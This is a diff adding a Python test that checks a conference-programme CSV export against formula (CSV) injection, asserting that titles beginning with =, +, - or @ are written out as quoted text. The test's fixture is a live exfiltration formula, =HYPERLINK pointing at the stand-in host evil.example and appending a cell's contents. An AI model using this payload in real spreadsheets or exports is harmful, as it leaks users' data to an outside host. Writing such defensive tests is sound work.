@@ -113,3 +113,18 @@ def test_the_title_limit_can_be_changed(host, event: Event, monkeypatch) -> None
     monkeypatch.setenv("GLANCE_MAX_TITLE", "10")
     codes = [f.code for f in confdocs.check(event, plugins=host)]
     assert codes.count("glance.long-title") == 2  # the opening, too
+
+
+def test_cells_that_a_spreadsheet_would_run_are_written_as_text(host, event):  # type: ignore[no-untyped-def]
+    """OWASP's CSV injection: a title starting with = + - @ is prefixed with a quote."""
+    import attrs
+
+    slot = attrs.evolve(
+        event.programme.days[0].slots[0], title='=HYPERLINK("https://evil.example/?"&A1,"x")'
+    )
+    day = attrs.evolve(event.programme.days[0], slots=(slot,))
+    evil = attrs.evolve(event, programme=Programme((day,)))
+    [document] = confdocs.build(evil, ["glance"], plugins=host).documents
+    rows = list(csv.reader(io.StringIO(document.data.decode("utf-8-sig"))))
+    assert rows[1][6] == "'=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")"
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
